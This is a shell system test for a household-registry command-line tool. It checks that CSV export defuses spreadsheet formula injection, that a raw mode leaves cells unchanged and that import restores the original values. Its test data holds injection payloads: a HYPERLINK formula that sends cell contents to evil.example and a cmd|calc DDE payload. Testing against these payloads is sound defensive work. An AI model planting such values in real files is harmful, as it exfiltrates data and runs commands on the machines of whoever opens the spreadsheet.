#!/bin/sh
# A clerk typed cells a spreadsheet would run as formulas (CSV injection:
# =HYPERLINK…, =cmd|…, +…, -…, @…).  "lika export" writes them with a leading
# ' by default, so Excel and WPS show them instead of running them; --raw
# writes them as they are; the import takes exactly that ' off again, so an
# export reads back to the same values (a value that itself starts with ' and
# = keeps its ').
. "$SRCDIR/tests/system/lib.sh"
. "$SRCDIR/tests/system/household.sh"
mk_archive a
expect_exit 0 lika household add --village 522701101001 --head-name 钱七 --head-idcard 513101198201130014 \
    --address '=HYPERLINK("http://evil.example/?"&A1,"点击")' --phone '+86 851-1234567' \
    --cause-note "-2+3+cmd|' /C calc'!A0"
h1=$OUT
expect_exit 0 lika household add --village 522701101001 --head-name 赵六 --head-idcard 11010519491231002X \
    --address "'=已经加了引号" --cause-note '@SUM(1+1)'
h2=$OUT
expect_exit 0 lika export households -o safe.csv
grep -q "\"'=HYPERLINK(\"\"http" safe.csv || fail "=HYPERLINK not neutralised: $(cat safe.csv)"
grep -q "'+86 851-1234567" safe.csv || fail "+ not neutralised"
grep -q "'-2+3+cmd" safe.csv || fail "- not neutralised"
grep -q "'@SUM(1+1)" safe.csv || fail "@ not neutralised"
grep -q "''=已经加了引号" safe.csv || fail "a value starting with '= not marked again"
# no cell starts with a formula character (after a separator or a quote)
/usr/bin/python3 - safe.csv <<'PY' || fail "a formula-like cell was written raw"
import csv, sys
for row in csv.reader(open(sys.argv[1], encoding="utf-8-sig")):
    for c in row:
        if c[:1] in ("=", "+", "-", "@", "\t", "\r"):
            try: float(c); continue
            except ValueError: pass
            print("raw:", repr(c)); sys.exit(1)
PY
# --excel guards the same cells; --raw writes them as they are
expect_exit 0 lika export households --excel -o excel.csv
grep -q "'=HYPERLINK" excel.csv || fail "--excel did not neutralise"
expect_exit 0 lika export households --raw -o raw.csv
grep -q '"=HYPERLINK(""http' raw.csv || fail "--raw changed the cell"
expect_exit 2 lika export households --raw --excel
expect_in "$OUT" "exclude each other"

# the neutralised export reads back to the same values
lika export households --format json -o a.json || fail "json"
mk_archive b
expect_exit 0 lika import households safe.csv
lika export households --format json -o b.json || fail "json"
cmp a.json b.json || { diff a.json b.json; fail "the ' did not come off on import"; }
expect_exit 0 lika household show $h2 --json
expect_in "$OUT" "\"address\":\"'=已经加了引号\""
expect_exit 0 lika verify
